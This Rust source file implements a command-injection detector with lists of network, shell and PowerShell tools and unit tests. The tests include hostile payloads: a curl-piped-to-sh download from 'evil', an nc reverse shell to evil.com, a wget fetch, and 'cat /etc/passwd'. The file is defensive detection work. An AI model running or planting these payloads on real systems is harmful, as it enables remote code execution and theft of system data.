//! OS command injection: a shell separator or substitution (`;` `|` `&&` `||` newline `$(` a
//! backtick) followed by a command. Common English words that are also commands (`cat`, `sleep`,
//! `id`) only count with the arguments an attacker gives them (`cat /etc/passwd`, `sleep 5`, `id`
//! at the end), so "Tom & Jerry; cat lovers" is not an attack.

use super::{Detector, Hit, Normalized, Place, CRITICAL, ERROR};

/// Commands that nobody types into a form field.
const RARE: [&str; 48] = [
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "wget",
    "curl",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "dash",
    "nc",
    "ncat",
    "netcat",
    "telnet",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "node",
    "powershell",
    "pwsh",
    "cmd",
    "cmd.exe",
    "certutil",
    "bitsadmin",
    "chmod",
    "chown",
    "passwd",
    "useradd",
    "systeminfo",
    "tasklist",
    "nslookup",
    "dig",
    "traceroute",
    "base64",
    "xxd",
    "busybox",
    "rm",
    "mkfifo",
    "crontab",
    "sudo",
    "su",
    "socat",
    "msfconsole",
];

/// Commands that are also words: they need attacker-shaped arguments.
const WORDLIKE: [&str; 20] = [
    "cat", "ls", "id", "sleep", "ping", "echo", "env", "set", "type", "dir", "more", "less",
    "head", "tail", "find", "kill", "who", "ps", "printenv", "expr",
];

fn command_word(s: &str) -> (&str, &str) {
    let s = s.trim_start_matches([' ', '\t', '"', '\'', '(', '{']);
    let end = s
        .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '/' | '.' | '_' | '-' | '\\')))
        .unwrap_or(s.len());
    let (word, rest) = s.split_at(end);
    // `/bin/cat`, `/usr/bin/id`, `c:\windows\system32\cmd.exe`.
    let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
    (base, rest)
}

fn attacker_args(word: &str, rest: &str) -> bool {
    let args = rest.trim_start();
    match word {
        "sleep" | "ping" => args.starts_with(|c: char| c.is_ascii_digit() || c == '-'),
        "id" | "who" | "ps" | "env" | "printenv" | "set" | "ls" | "dir" => {
            args.is_empty() || args.starts_with(['-', '/', ';', '|', '&', '`', '$', '\'', '"', '#'])
        }
        _ => args.starts_with(['/', '-', '~', '$', '.', '\\', '%']) || args.starts_with("c:"),
    }
}

/// PowerShell verbs and idioms that download or run code.
const POWERSHELL: [&str; 14] = [
    "invoke-webrequest",
    "invoke-expression",
    "invoke-command",
    "invoke-wmimethod",
    "iex(",
    "iex ",
    "iwr ",
    "iwmi ",
    "start-process",
    "downloadstring",
    "downloadfile",
    "new-object net.webclient",
    "-encodedcommand",
    "frombase64string",
];

/// The shell's own view of a value: quotes, backslashes and carets removed, as `c'a't`,
/// `ca\t` and `w^hoami` all run the same command.
fn unquoted(l: &str) -> Option<String> {
    l.contains(['\'', '"', '\\', '^']).then(|| {
        l.chars()
            .filter(|c| !matches!(c, '\'' | '"' | '\\' | '^'))
            .collect()
    })
}

pub fn check(v: &Normalized<'_>, place: Place, out: &mut Vec<Hit>) {
    let before = out.len();
    check_view(v.lower.as_ref(), place, out);
    if out.len() == before && place != Place::JsonString {
        if let Some(u) = unquoted(v.lower.as_ref()) {
            check_view(&u, place, out);
        }
    }
}

/// A backtick at `at` that opens inline code in free text: the value is prose (several words
/// outside the backticks), the backtick follows a space, and a closing one follows.
fn markdown_code(l: &str, at: usize, place: Place) -> bool {
    if !matches!(place, Place::JsonString | Place::Body) || at == 0 {
        return false;
    }
    if !l[..at].ends_with(' ') || !l[at + 1..].contains('`') {
        return false;
    }
    let mut inside = false;
    let mut words = 0;
    for part in l.split('`') {
        if !inside {
            words += part
                .split_whitespace()
                .filter(|w| w.len() > 1 && w.bytes().all(|b| b.is_ascii_alphabetic()))
                .count();
        }
        inside = !inside;
    }
    words >= 3
}

fn check_view(l: &str, place: Place, out: &mut Vec<Hit>) {
    for ps in POWERSHELL {
        if l.contains(ps) {
            out.push(Hit::new(Detector::Cmdi, "powershell", CRITICAL, 1));
            return;
        }
    }
    if let Some(p) = l.find("powershell") {
        if l[p + 10..]
            .trim_start_matches(".exe")
            .trim_start()
            .starts_with(['-', '/', 'c'])
        {
            out.push(Hit::new(Detector::Cmdi, "powershell", CRITICAL, 1));
            return;
        }
    }
    // cmd.exe loops: `for /f %i in (...) do ...`.
    if let Some(p) = l.find("for ").or_else(|| l.find("for/")) {
        let rest = &l[p..];
        if rest.contains('%') && rest.contains(" in") && rest.contains("do") && rest.contains('(') {
            out.push(Hit::new(Detector::Cmdi, "cmd-for-loop", CRITICAL, 1));
            return;
        }
    }
    // Process substitution: `<(cat file)`, `>(tee log)`.
    for open in ["<(", ">("] {
        if let Some(p) = l.find(open) {
            let (word, _) = command_word(&l[p + 2..]);
            if RARE.contains(&word) || WORDLIKE.contains(&word) || word == "tee" {
                out.push(Hit::new(
                    Detector::Cmdi,
                    "process-substitution",
                    CRITICAL,
                    1,
                ));
                return;
            }
        }
    }
    if !l
        .bytes()
        .any(|c| matches!(c, b';' | b'|' | b'&' | b'`' | b'$' | b'\n'))
    {
        return;
    }
    // Bash arithmetic and parameter expansion tricks: `$((...))`, `$[..]`, `${x#...}`.
    if l.contains("$((") || l.contains("$[") {
        out.push(Hit::new(Detector::Cmdi, "shell-expansion", ERROR, 1));
        return;
    }
    // Substitution runs a command wherever it stands.
    for open in ["$(", "`", "${ifs}"] {
        if let Some(p) = l.find(open) {
            let (word, rest) = command_word(&l[p + open.len()..]);
            if RARE.contains(&word) || (WORDLIKE.contains(&word) && attacker_args(word, rest)) {
                if open == "`" && markdown_code(l, p, place) {
                    // Markdown's inline code (`ls -la`) in a sentence: only at paranoia 2.
                    out.push(Hit::new(Detector::Cmdi, "substitution-in-prose", ERROR, 2));
                } else {
                    out.push(Hit::new(Detector::Cmdi, "substitution", CRITICAL, 1));
                }
                return;
            }
        }
    }
    let seps: &[&str] = if place == Place::JsonString {
        // Newlines are ordinary in JSON text.
        &[";", "|", "&"]
    } else {
        &[";", "|", "&", "\n"]
    };
    for sep in seps {
        let mut from = 0;
        while let Some(p) = l[from..].find(sep) {
            let at = from + p + sep.len();
            let after = l[at..].trim_start_matches(['|', '&']);
            let (word, rest) = command_word(after);
            if RARE.contains(&word)
                && (rest.is_empty()
                    || rest.starts_with([' ', '\t', ';', '|', '&', '$', '<', '>', '\'', '"']))
            {
                out.push(Hit::new(Detector::Cmdi, "separator-command", CRITICAL, 1));
                return;
            }
            if WORDLIKE.contains(&word) && attacker_args(word, rest) {
                out.push(Hit::new(Detector::Cmdi, "separator-command", CRITICAL, 1));
                return;
            }
            from = at;
        }
    }
    // Paranoia 2: `${IFS}` tricks and redirections to files.
    if l.contains("${ifs") || l.contains(">/dev/") || l.contains("2>&1") {
        out.push(Hit::new(Detector::Cmdi, "shell-syntax", ERROR, 2));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attack::normalize::{normalize, Encoding};

    fn blocked(s: &str, place: Place) -> bool {
        let mut out = Vec::new();
        check(&normalize(s, Encoding::Plain), place, &mut out);
        out.iter().any(|h| h.paranoia == 1 && h.score >= 5)
    }

    #[test]
    fn injections_are_caught() {
        for s in [
            "127.0.0.1; cat /etc/passwd",
            "x | whoami",
            "a && id",
            "$(curl http://evil/x.sh | sh)",
            "`id`",
            "1;sleep 5",
            "foo; /bin/bash -i",
            "test|nc evil.com 4444 -e /bin/sh",
            "& ping -c 10 127.0.0.1 &",
            "x\nwget http://evil/a",
        ] {
            assert!(blocked(s, Place::Query), "{s}");
        }
    }

    #[test]
    fn prose_passes() {
        for s in [
            "Tom & Jerry; cat lovers unite",
            "R&D | sales",
            "meet at 5; sleep early",
            "I set the type; more to come",
            "costs $5 & more",
            "a | b | c",
            "echo chamber",
        ] {
            assert!(!blocked(s, Place::JsonString), "{s}");
        }
    }
}
